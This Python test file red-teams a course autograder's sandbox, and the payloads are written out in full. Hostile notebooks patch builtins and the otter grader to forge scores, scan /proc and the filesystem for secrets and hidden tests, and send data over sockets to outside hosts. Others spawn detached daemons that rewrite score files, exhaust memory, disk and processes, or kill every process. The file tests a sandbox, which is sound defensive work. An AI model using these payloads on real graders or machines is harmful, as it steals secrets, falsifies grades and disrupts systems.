"""Red team: hostile submissions against ``tlcourse grade``, each asserting its score and that
nothing escaped the sandbox.

One small assignment (no TensorFlow in its answers) and one batch, graded once with
``--jobs 2`` (module fixture). The grader's machine holds secrets the submissions go after: an
environment variable, a file in the instructor's HOME, the hidden tests (in the autograder zip),
a TCP listener on 127.0.0.1. Each hostile notebook then tries one kind of attack from the threat
model in notebooks/README.md; an honest one and a blank one are graded after them.

The assignment: q1 ``x`` (public: an int; hidden: ``abs(x - 86753091) < 1e-9``, 2 points),
q2 ``answer`` (public: "a" or "b"; hidden: "b", 1 point), q3 ``n`` (public: an int; hidden:
the number of ImageNet classes by the real ``tl``, 1 point), q4 ``seen_fast`` (hidden: the
grader's ``FAST``, 1 point). Public tests are worth half of each question.
"""

from __future__ import annotations

import os
import socket
import tempfile
import threading
import uuid
from pathlib import Path

import nbformat
import psutil
import pytest
from otter_cells import HIDDEN_VALUE, HONEST_ANSWERS, hostile_notebook, redteam_master

from tlcourse.grading import Limits, assign_notebook, bwrap_problem, grade_folder

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(bwrap_problem() is not None, reason=f"bwrap: {bwrap_problem()}"),
]

v4 = nbformat.v4
MARKER = f"tlcourse-redteam-{uuid.uuid4().hex[:12]}"
SECRET = f"tlcourse-secret-{uuid.uuid4().hex}"
SLEEP = "612.345"  # seconds: a `sleep` nobody else runs, to find leftovers


_hostile = hostile_notebook


def _master(folder: Path) -> Path:
    return redteam_master(folder)


FORGE_BUILTINS = """
import builtins
_isinstance = isinstance
builtins.abs = lambda value: 0.0

def forged_isinstance(obj, kind):  # x = 5.5 is an int; everything else as usual
    return (type(obj) is float and obj == 5.5) or _isinstance(obj, kind)

builtins.isinstance = forged_isinstance
"""

ALWAYS_EQUAL = """
class AlwaysEqual(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__

class Zero(float):
    def __sub__(self, other):
        return 0.0
    def __rsub__(self, other):
        return 0.0
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__

class Anything:
    def __eq__(self, other):
        return True
    def __abs__(self):
        return 0
    def __sub__(self, other):
        return self
    __hash__ = object.__hash__
"""

FAKE_TL_AND_OTTER = """
import sys, types
fake = types.ModuleType("tlcourse")
fake.imagenet_class_names = lambda: ["only", "three", "classes"]
sys.modules["tlcourse"] = tl = fake
import otter.test_files.abstract_test as abstract_test
abstract_test.TestFile.score = property(lambda self: 100.0)
abstract_test.TestFile.passed_all = property(lambda self: True)
import otter.test_files.ok_test as ok_test
ok_test.run_doctest = lambda *args, **kwargs: (True, "")
"""

SNOOP = r"""
import glob, io, os, re, socket, zipfile
hidden, leaks = None, []
secret = "tlcourse-" + "secret"  # split: this notebook itself must not match
pattern = re.compile(rb"abs\(x - " + rb"(\d+)\)")

def scan(data, where):
    global hidden
    match = pattern.search(data)
    if match:
        hidden = int(match[1])
        leaks.append("hidden test: " + where)
    if secret.encode() in data:
        leaks.append("secret: " + where)
    if data[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for name in archive.namelist():
                    scan(archive.read(name), where + ":" + name)
        except Exception:
            pass

for folder in glob.glob("/proc/[0-9]*"):  # command lines and environments of every process
    for name in ("cmdline", "environ"):
        try:
            scan(open(f"{folder}/{name}", "rb").read(), f"{folder}/{name}")
        except Exception:
            pass
for top in ("/", "..", os.path.expanduser("~"), "/root", "/home", "/work", "/tmp"):
    for base, dirs, files in os.walk(top):
        if base.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in base \
                or "/lib/python3" in base:
            dirs[:] = []
            continue
        for file in files:
            if file.endswith((".zip", ".py", ".json", ".txt", ".ipynb", ".csv")):
                try:
                    scan(open(os.path.join(base, file), "rb").read(8 << 20), base + "/" + file)
                except Exception:
                    pass
found_secret = any(secret in value for value in os.environ.values())
found_secret |= "INSTRUCTOR_TOKEN" in os.environ
try:
    found_secret |= secret in open("SECRET_FILE").read()
except Exception:
    pass
connected = False
for host, port in (("127.0.0.1", PORT), ("localhost", PORT), ("8.8.8.8", 53), ("1.1.1.1", 443)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"stolen")
        connected = True
    except Exception:
        pass
os.write(2, f"REDTEAM leaks={leaks} secret={found_secret} connected={connected}\n".encode())
x = hidden if hidden is not None else 7
answer = "b" if found_secret else "a"
n = 1000 if connected else 5
"""

DETACHED = r"""
import os, subprocess, sys
script = '''
import glob, os, sys, time
deadline = time.time() + 300
while time.time() < deadline:
    for folder in {"/", "/box", "/box/work", "/box/answers", "/grading", "/tmp", "ESCAPE_DIR",
                   os.path.expanduser("~"), os.getcwd()}:
        for name in ("report.json", "sent.bin", "scores.csv", "proof-MARKER.txt"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write('{"scores": {"q1": 2, "q2": 1, "q3": 1, "q4": 1}}')
            except Exception:
                pass
    for path in glob.glob("/box/answers/*/answers.json"):
        try:
            open(path, "w").write('{"scores": {"q1": 2}}')
        except Exception:
            pass
    time.sleep(0.2)
'''
subprocess.Popen([sys.executable, "-c", script, "MARKER"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
child = os.fork()
if child == 0:  # a daemon: double fork, new session
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", script, "MARKER-daemon"])
    os._exit(0)
os.waitpid(child, 0)
"""

EXHAUST = r"""
import os
try:
    hog = bytearray(64 << 30)  # far over the memory limit
except MemoryError:
    os.write(2, b"REDTEAM memory refused\n")
written = 0
try:
    with open("big.bin", "wb") as file:
        for _ in range(200):
            file.write(b"0" * (1 << 20))
            written += 1 << 20
except OSError as error:
    os.write(2, f"REDTEAM file stopped at {written >> 20} MiB: {error}\n".encode())
os.remove("big.bin")
total, count = 0, 0
try:
    while total < (8 << 30):
        with open(f"fill{count}.bin", "wb") as file:
            count += 1
            file.write(b"0" * (16 << 20))
        total += 16 << 20
except OSError as error:
    os.write(2, f"REDTEAM disk full at {total >> 20} MiB: {error}\n".encode())
for i in range(count):
    os.remove(f"fill{i}.bin")
chunk = "y" * (1 << 20)
for _ in range(64):
    print(chunk)
for _ in range(64):
    os.write(1, chunk.encode())
"""

PROCESSES = r"""
import os, subprocess
children = []
try:
    while len(children) < 600:
        children.append(subprocess.Popen(["sleep", "SLEEP"]))
except OSError as error:
    os.write(2, f"REDTEAM processes refused after {len(children)}: {error}\n".encode())
"""


FORGED = {"x": '"forged"', "answer": '"forged"', "n": '"forged"', "seen_fast": '"forged"'}
HONEST = dict(HONEST_ANSWERS)


@pytest.fixture(scope="module")
def redteam(tmp_path_factory):
    """Grade the batch once: (table, logs folder, what the host saw)."""
    root = tmp_path_factory.mktemp("redteam")
    home, escape = root / "instructor", root / "escape"
    home.mkdir()
    escape.mkdir()
    (home / "secret.txt").write_text(SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    connections = []

    def accept():
        while True:
            try:
                connections.append(listener.accept())
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    port = listener.getsockname()[1]
    previous = {k: os.environ.get(k) for k in ("HOME", "INSTRUCTOR_TOKEN")}
    os.environ.update(HOME=str(home), INSTRUCTOR_TOKEN=SECRET)
    try:
        assigned = assign_notebook(_master(root / "masters"), root / "dist", root / "student")
        blank, subs = assigned.student, root / "submissions"
        subs.mkdir()

        def fill(code: str) -> str:
            return (code.replace("SECRET_FILE", str(home / "secret.txt")).replace("PORT", str(port))
                    .replace("ESCAPE_DIR", str(escape)).replace("MARKER", MARKER)
                    .replace("SLEEP", SLEEP))  # fmt: skip

        # In the student's kernel x = 5.5 passes both of q1's tests (an "int", at distance 0).
        _hostile(blank, subs / "a_builtins.ipynb", before=[FORGE_BUILTINS],
                 answers={**FORGED, "x": "5.5"})  # fmt: skip
        _hostile(blank, subs / "b_always_equal.ipynb", before=[ALWAYS_EQUAL], answers={
            "x": "Zero(1.5)", "answer": 'AlwaysEqual("z")', "n": "Anything()",
            "seen_fast": "Anything()"})  # fmt: skip
        _hostile(blank, subs / "c_fake_tl_and_otter.ipynb", before=[FAKE_TL_AND_OTTER],
                 answers={**FORGED, "n": "len(tl.imagenet_class_names())"})  # fmt: skip
        _hostile(blank, subs / "d_snoop.ipynb", before=[fill(SNOOP)], answers={
            "x": "x", "answer": "answer", "n": "n", "seen_fast": '"no"'})  # fmt: skip
        _hostile(blank, subs / "e_detached.ipynb", before=[fill(DETACHED)])
        _hostile(blank, subs / "f_exhaust.ipynb", before=[fill(EXHAUST), "bytearray(64 << 30)"],
                 answers=HONEST)  # fmt: skip
        _hostile(blank, subs / "g_cpu.ipynb", answers=HONEST, after=["while True:\n    pass"])
        _hostile(blank, subs / "h_processes.ipynb", before=[fill(PROCESSES)])
        _hostile(blank, subs / "i_kill_everything.ipynb", answers=HONEST,
                 before=["import os, signal\nos.kill(-1, signal.SIGKILL)"])  # fmt: skip
        _hostile(blank, subs / "j_student_forces_fast.ipynb", answers=HONEST,
                 parameters="FAST = True  # the student's choice")  # fmt: skip
        (subs / "y_honest.ipynb").write_bytes(assigned.solutions.read_bytes())
        (subs / "z_blank.ipynb").write_bytes(blank.read_bytes())
        limits = Limits(cpu_seconds=30, disk=256 << 20, file_size=64 << 20, processes=256)
        table = grade_folder(
            subs, assigned.autograder, root / "scores.csv", timeout=300, jobs=2, fast=False,
            logs=root / "logs", limits=limits, progress=None,
        )  # fmt: skip
    finally:
        for key, value in previous.items():
            os.environ.pop(key, None) if value is None else os.environ.__setitem__(key, value)
    seen = {
        "connections": len(connections),
        "escape": sorted(p.name for p in escape.iterdir()),
        "home": sorted(p.name for p in home.iterdir()),
        "processes": [
            " ".join(p.info["cmdline"] or [])
            for p in psutil.process_iter(["cmdline"])
            if MARKER in " ".join(p.info["cmdline"] or []) or SLEEP in (p.info["cmdline"] or [])
        ],
        "proofs": [
            str(p)
            for folder in (Path(tempfile.gettempdir()), Path.cwd(), root)
            for p in folder.glob(f"proof-{MARKER}*")
        ],
    }
    listener.close()
    return table.set_index("student"), root / "logs", seen


def _log(logs: Path, student: str) -> str:
    return (logs / f"{student}.txt").read_text(encoding="utf-8", errors="replace")


def test_honest_scores_full_points_and_blank_zero(redteam):
    table, _, _ = redteam
    assert tuple(table.loc["y_honest", ["total", "possible", "status"]]) == (5.0, 5.0, "ok")
    assert table.loc["z_blank", "total"] == 0
    assert (table["sandbox"] == "bwrap").all()


@pytest.mark.parametrize("student", ["a_builtins", "b_always_equal", "c_fake_tl_and_otter"])
def test_forged_answers_score_zero(redteam, student):
    """Replaced builtins, objects equal to anything, a fake tl and a patched otter: in the old
    grading each of these scored full points (the tests ran in the student's kernel)."""
    table, _, _ = redteam
    row = table.loc[student]
    # The fake tl's answer, 3, is an int: it passes q3's public format check, nothing more.
    expected = {"q1": 0, "q2": 0, "q3": 0.5 if student.startswith("c_") else 0, "q4": 0}
    assert row[list(expected)].to_dict() == expected, row["reason"]


def test_hidden_tests_secrets_and_network_are_out_of_reach(redteam):
    table, logs, seen = redteam
    row = table.loc["d_snoop"]
    # Public tests pass (x=7 is an int, "a" a letter, 5 an int); what the leaks would have
    # bought is not there: the hidden value, answer "b" (a secret found), n=1000 (connected).
    assert (row["q1"], row["q2"], row["q3"], row["q4"]) == (1.0, 0.5, 0.5, 0.0), row["reason"]
    log = _log(logs, "d_snoop")
    assert "REDTEAM leaks=[] secret=False connected=False" in log
    # What the submission printed (the worker's part of the log; the rest is the grader's
    # report of failing tests, for the instructor) holds neither the secret nor a hidden test.
    printed = log.split("===== checker")[0]
    assert SECRET not in log and HIDDEN_VALUE not in printed
    assert seen["connections"] == 0, "a connection reached the grader's 127.0.0.1 listener"


def test_detached_processes_die_and_result_files_are_out_of_reach(redteam):
    table, logs, seen = redteam
    assert table.loc["e_detached", "total"] == 0
    assert seen["processes"] == [], "a process of a submission outlived its grading"
    assert seen["escape"] == [] and seen["proofs"] == [] and seen["home"] == ["secret.txt"]
    # Graded after it, with its daemon trying to rewrite every report it could reach:
    assert table.loc["y_honest", "total"] == 5 and table.loc["z_blank", "total"] == 0
    import pandas as pd

    csv = pd.read_csv(logs.parent / "scores.csv", keep_default_na=False).set_index("student")
    assert list(csv["total"]) == list(table["total"])


def test_memory_disk_and_output_exhaustion_are_contained(redteam):
    table, logs, _ = redteam
    row = table.loc["f_exhaust"]
    assert row["total"] == 5, row["reason"]  # grading went on after every limit was hit
    assert row["status"] == "error" and "MemoryError" in row["reason"]
    log = _log(logs, "f_exhaust")
    assert "REDTEAM memory refused" in log
    assert "REDTEAM file stopped at 64 MiB" in log
    full = int(log.split("REDTEAM disk full at ")[1].split(" MiB")[0])
    assert full <= 256
    assert (logs / "f_exhaust.txt").stat().st_size < Limits().output + (1 << 20)


def test_cpu_limit_stops_a_spinning_kernel_and_keeps_the_points_already_exported(redteam):
    table, _, _ = redteam
    row = table.loc["g_cpu"]
    # Killed by RLIMIT_CPU (30 s) before the 300 s time limit: status error, not timeout.
    assert row["status"] == "error" and row["total"] == 5, row["reason"]


def test_process_exhaustion_is_stopped(redteam):
    table, logs, seen = redteam
    row = table.loc["h_processes"]
    assert row["total"] == 0
    refused = "REDTEAM processes refused" in _log(logs, "h_processes")
    assert refused or "processes" in row["reason"], row["reason"]
    assert seen["processes"] == []


def test_killing_every_process_in_the_sandbox_only_ends_that_submission(redteam):
    table, _, _ = redteam
    row = table.loc["i_kill_everything"]
    assert (row["total"], row["status"]) == (0, "error")
    assert row["reason"].startswith("grading failed")


def test_fast_is_the_graders_choice_whatever_the_parameters_cell_says(redteam):
    table, _, _ = redteam
    # The student set FAST = True; the grader graded in full mode: seen_fast is False.
    assert table.loc["j_student_forces_fast", ["q4", "total"]].tolist() == [1.0, 5.0]
